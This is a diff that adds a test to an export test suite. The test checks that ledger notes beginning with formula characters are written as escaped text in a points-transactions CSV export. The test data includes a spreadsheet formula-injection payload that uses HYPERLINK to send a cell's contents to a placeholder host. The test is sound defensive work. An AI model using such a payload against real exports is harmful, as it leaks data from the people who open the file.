@@ -90,6 +90,25 @@ describeEachDb('exports', (server) => {
     }
   });
 
+  it('writes text that would start a formula as text', async () => {
+    const note = '=HYPERLINK("http://example.com/?leak="&A1,"Click")';
+    await server().db.query(
+      `INSERT INTO points_ledger (uid, delta, kind, note, source, balance_after, created_at)
+       VALUES ($1, -3, 'adjust', $2, '@source', 0, timestamptz '2020-04-01 12:00Z')`,
+      [learnerUid, note],
+    );
+    const { headings, records } = await download(admin, '/api/v2/incentives/transactions/export', {
+      uid: learnerUid,
+      from: '2020-04-01',
+      to: '2020-04-01',
+    });
+    const [record] = records;
+    expect(record![headings.indexOf('Note')]).toBe(`'${note}`);
+    expect(record![headings.indexOf('Source')]).toBe(`'@source`);
+    // Numbers stay numbers: a negative movement is not text.
+    expect(record![headings.indexOf('Points')]).toBe('-3');
+  });
+
   it('lists orders with what was bought, and the audit log, each export recorded', async () => {
     const orders = await download(admin, '/api/v2/incentives/orders/export', {
       status: 'completed',
